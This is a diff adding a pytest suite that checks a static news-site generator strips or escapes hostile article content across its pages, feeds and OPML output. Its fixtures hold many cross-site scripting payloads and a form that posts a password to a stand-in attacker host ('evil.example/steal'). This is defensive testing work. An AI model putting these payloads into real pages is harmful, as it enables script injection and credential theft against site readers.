@@ -1,0 +1,270 @@
+"""Untrusted content: whatever an article says, no script reaches readers of the pages or
+the feeds, every piece of text reads back exactly as written, and pages load nothing
+from other hosts except an article's own absolute image.
+"""
+
+from __future__ import annotations
+
+import json
+import xml.etree.ElementTree as ET
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import feedparser
+import pytest
+from conftest import make_project, run_newsdigest, write_article
+from lxml import html
+
+from generator.markdown import sanitise
+
+# Text fields an attacker controls; each must come back as the same text everywhere.
+TITLE = "</script><script>alert('t')</script> \"Quotes\" & <b>bold</b> ]]> end"
+TAG = "<img src=x onerror=alert('tag')>"
+SUMMARY = "Summary with </script><svg onload=alert('s')> and ]]> and \"quotes\"."
+AUTHOR = "Eve <script>alert('a')</script>"
+IMAGE_CREDIT = "'><iframe src=javascript:alert('c')>"
+SOURCE = "</title><script>alert('src')</script>"
+
+HOSTILE_BODY = """\
+First paragraph with <script>alert('body')</script> a script.
+
+<iframe src="https://evil.example/frame"></iframe>
+<img src="x.png" onerror="alert('img')" alt="handler">
+<a href="javascript:alert('js')">js link</a>
+<a href=" JaVaScRiPt:alert('js2')">mixed case</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
+<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data image">
+<svg onload="alert('svg')"><circle r="4"/></svg>
+<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
+<form action="https://evil.example/steal"><input name="password"></form>
+<style>body { background: url(https://evil.example/track.png) }</style>
+<link rel="stylesheet" href="https://evil.example/x.css">
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<base href="https://evil.example/">
+<div style="background:url(https://evil.example/track.png)" onclick="alert('div')">styled</div>
+<p><!-- a comment --></p>
+
+[markdown js](javascript:alert('md'))
+[markdown data](data:text/html,<script>alert(1)</script>)
+![markdown data image](data:image/png;base64,iVBORw0KGgo=)
+
+Read [the agency report](https://agency.example/report) for more.
+"""
+
+FRONT = f"""\
+title: {json.dumps(TITLE)}
+date: 2025-06-01T10:00:00+00:00
+country: India
+credits:
+  author: {json.dumps(AUTHOR)}
+  image: {json.dumps(IMAGE_CREDIT)}
+  sources: [{json.dumps(SOURCE)}]
+tags: [{json.dumps(TAG)}, Climate]
+summary: {json.dumps(SUMMARY)}
+"""
+
+PHOTO = f"image:\n  src: photo.png\n  alt: {json.dumps(TITLE)}\n  caption: {json.dumps(SOURCE)}\n"
+OTHER_HOST = "evil.example"
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("untrusted")
+    project = make_project(root / "project")
+    write_article(project, "2025/06/hostile.md", FRONT + PHOTO, HOSTILE_BODY)
+    (project / "content/2025/06/photo.png").write_bytes(b"\x89PNG\r\n\x1a\nnot really")
+    write_article(
+        project,
+        "2025/06/remote-image.md",
+        FRONT.replace("2025-06-01", "2025-06-02")
+        + "image:\n  src: https://images.example/photo.jpg\n  alt: A remote photo\n",
+        "Plain body.\n",
+    )
+    result = run_newsdigest("build", "--output", str(root / "site"), cwd=project)
+    assert result.returncode == 0, result.stderr
+    return root / "site"
+
+
+def pages(site: Path) -> list[Path]:
+    return sorted(site.rglob("*.html"))
+
+
+def article_page(site: Path) -> html.HtmlElement:
+    return html.parse(str(site / "2025/06/01/hostile/index.html")).getroot()
+
+
+def assert_harmless(tree: html.HtmlElement, where: str) -> None:
+    """No element or attribute in a parsed document can run script or load another host."""
+    for element in tree.iter():
+        if not isinstance(element.tag, str):
+            continue
+        tag = element.tag.lower()
+        assert tag not in {"iframe", "object", "embed", "form", "svg", "base", "style", "input"}, (
+            f"{where}: <{tag}>"
+        )
+        if tag == "script":
+            assert element.get("type") == "application/ld+json", f"{where}: a script runs"
+        if tag == "meta":
+            assert element.get("http-equiv") is None, f"{where}: meta refresh"
+        for name, value in element.attrib.items():
+            assert not name.lower().startswith("on"), f"{where}: <{tag} {name}>"
+            assert name.lower() != "style" or "url(" not in value, f"{where}: style url"
+            if name.lower() in {"href", "src", "action", "data", "srcset", "formaction"}:
+                scheme = urlsplit(value.strip()).scheme.lower()
+                assert scheme not in {"javascript", "data", "vbscript"}, (
+                    f"{where}: <{tag} {name}={value!r}>"
+                )
+                assert OTHER_HOST not in value, f"{where}: <{tag} {name}={value!r}>"
+
+
+def test_no_page_carries_script_handlers_or_foreign_embeds(hostile_site: Path) -> None:
+    found = pages(hostile_site)
+    assert len(found) > 5
+    for page in found:
+        assert_harmless(html.parse(str(page)).getroot(), page.name)
+        text = page.read_text(encoding="utf-8")
+        assert "<script>alert" not in text
+        assert "<iframe" not in text
+
+
+def test_the_safe_parts_of_the_body_are_kept(hostile_site: Path) -> None:
+    body = article_page(hostile_site).find_class("article-body") or [article_page(hostile_site)]
+    text = body[0].text_content()
+    assert "First paragraph with" in text
+    assert "styled" in text
+    links = {a.text_content(): a for a in article_page(hostile_site).iter("a")}
+    assert links["the agency report"].get("href") == "https://agency.example/report"
+    assert "noopener" in links["the agency report"].get("rel", "").split()
+    for name in ("js link", "mixed case", "data link", "markdown js", "markdown data"):
+        href = links[name].get("href") if name in links else None
+        assert href is None or urlsplit(href.strip()).scheme.lower() not in {"javascript", "data"}
+
+
+def test_every_link_to_another_site_gets_noopener(hostile_site: Path) -> None:
+    for page in pages(hostile_site):
+        for link in html.parse(str(page)).getroot().iter("a"):
+            href = link.get("href") or ""
+            if urlsplit(href).netloc not in ("", "127.0.0.1:8000"):
+                assert "noopener" in (link.get("rel") or "").split(), f"{page}: {href}"
+
+
+def test_titles_tags_and_credits_read_back_exactly_in_the_page(hostile_site: Path) -> None:
+    page = article_page(hostile_site)
+    assert " ".join(page.findtext(".//h1").split()) == " ".join(TITLE.split())
+    assert TITLE in page.findtext(".//title")
+    text = page.text_content()
+    for value in (TAG, AUTHOR, IMAGE_CREDIT, SOURCE):
+        assert value in text, value
+    metas = {m.get("property") or m.get("name"): m.get("content") for m in page.iter("meta")}
+    assert metas["og:title"] == TITLE
+    assert metas["description"] == SUMMARY
+    assert [i.get("alt") for i in page.iter("img") if "photo.png" in i.get("src", "")] == [TITLE]
+
+
+def test_json_ld_cannot_be_broken_out_of(hostile_site: Path) -> None:
+    page = article_page(hostile_site)
+    blocks = [s for s in page.iter("script")]
+    assert len(blocks) == 1
+    raw = (hostile_site / "2025/06/01/hostile/index.html").read_text(encoding="utf-8")
+    inside = raw.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
+    assert "<" not in inside
+    data = json.loads(inside)
+    assert data["headline"] == TITLE
+    assert data["description"] == SUMMARY
+    assert data["author"][0]["name"] == AUTHOR
+    assert TAG in data["keywords"]
+
+
+def as_text(detail: feedparser.FeedParserDict) -> str:
+    """What a feed reader shows for a text construct: HTML is rendered, text is text."""
+    if detail.type == "text/html":
+        return str(html.fromstring(f"<div>{detail.value}</div>").text_content())
+    return str(detail.value)
+
+
+def test_feeds_carry_the_text_exactly_and_no_script(hostile_site: Path) -> None:
+    for name in ("feed.xml", "atom.xml"):
+        feed = feedparser.parse(str(hostile_site / name))
+        assert not feed.bozo, (name, feed.bozo_exception)
+        entry = next(e for e in feed.entries if e.link.endswith("/2025/06/01/hostile/"))
+        assert entry.title == TITLE
+        assert as_text(entry.summary_detail) == SUMMARY
+        assert TAG in [t.term for t in entry.tags]
+        content = html.fromstring(entry.content[0].value)
+        assert_harmless(content, name)
+        assert "First paragraph with" in content.text_content()
+    raw_rss = (hostile_site / "feed.xml").read_bytes()
+    assert b"<![CDATA[" not in raw_rss or b"]]]]><![CDATA[>" in raw_rss
+
+
+def test_xml_feeds_parse_strictly_with_the_title_intact(hostile_site: Path) -> None:
+    for name in ("feed.xml", "atom.xml", "tags/climate/feed.xml"):
+        root = ET.parse(hostile_site / name).getroot()
+        titles = [e.text for e in root.iter() if e.tag.rsplit("}", 1)[-1] == "title"]
+        assert TITLE in titles, name
+
+
+def test_json_feed_content_is_sanitised(hostile_site: Path) -> None:
+    feed = json.loads((hostile_site / "feed.json").read_text(encoding="utf-8"))
+    item = next(i for i in feed["items"] if i["url"].endswith("/2025/06/01/hostile/"))
+    assert item["title"] == TITLE
+    assert item["summary"] == SUMMARY
+    assert TAG in item["tags"]
+    assert item["authors"] == [{"name": AUTHOR}]
+    assert_harmless(html.fromstring(item["content_html"]), "feed.json")
+
+
+def test_opml_names_topic_feeds_exactly(hostile_site: Path) -> None:
+    root = ET.parse(hostile_site / "feeds.opml").getroot()
+    texts = [o.get("text") for o in root.iter("outline")]
+    assert f"Test Desk: {TAG}" in texts
+
+
+def test_pages_load_nothing_from_other_hosts_but_the_articles_own_image(
+    hostile_site: Path,
+) -> None:
+    remote_uses = []
+    for page in pages(hostile_site):
+        tree = html.parse(str(page)).getroot()
+        for element in tree.iter():
+            if not isinstance(element.tag, str):
+                continue
+            loads = [element.get("src")]
+            if element.tag == "link" and element.get("rel") not in ("canonical", "alternate"):
+                loads.append(element.get("href"))
+            for url in filter(None, loads):
+                host = urlsplit(url).netloc
+                if host and host != "127.0.0.1:8000":
+                    remote_uses.append((page.relative_to(hostile_site).as_posix(), url))
+    assert remote_uses, "the remote image is shown somewhere"
+    assert {url for _, url in remote_uses} == {"https://images.example/photo.jpg"}
+    css = (hostile_site / "static/style.css").read_text(encoding="utf-8")
+    assert "http" not in css and "@import" not in css
+
+
+def test_sanitise_keeps_what_news_needs() -> None:
+    kept = sanitise(
+        '<figure><img src="a.png" alt="x"><figcaption>Cap</figcaption></figure>'
+        '<table><tr><th scope="col">H</th></tr><tr><td>1</td></tr></table>'
+        "<blockquote><p><em>a</em> <strong>b</strong></p></blockquote>"
+        '<ol start="3"><li>x</li></ol><a href="https://a.example/">l</a>'
+    )
+    tree = html.fragment_fromstring(kept, create_parent="div")
+    assert {e.tag for e in tree.iter()} >= {
+        "figure", "img", "figcaption", "table", "th", "td", "blockquote", "em", "strong",
+        "ol", "li", "a",
+    }
+    assert tree.find(".//a").get("rel") == "noopener noreferrer"
+
+
+def test_trusted_html_publishes_raw_html_as_written(tmp_path: Path) -> None:
+    project = make_project(tmp_path / "project", "trusted_html = true\n")
+    write_article(project, "2025/06/embed.md", FRONT.replace(json.dumps(TITLE), "Embed"),
+                  'Watch:\n\n<iframe src="https://video.example/embed/1" title="v"></iframe>\n')
+    result = run_newsdigest("build", "--output", str(tmp_path / "site"), cwd=project)
+    assert result.returncode == 0, result.stderr
+    page = html.parse(str(tmp_path / "site/2025/06/01/embed/index.html")).getroot()
+    assert [f.get("src") for f in page.iter("iframe")] == ["https://video.example/embed/1"]
+    # The headline is still escaped: trusted_html is about bodies only.
+    escaped = (tmp_path / "site/2025/06/01/embed/index.html").read_text(encoding="utf-8")
+    assert TAG not in escaped
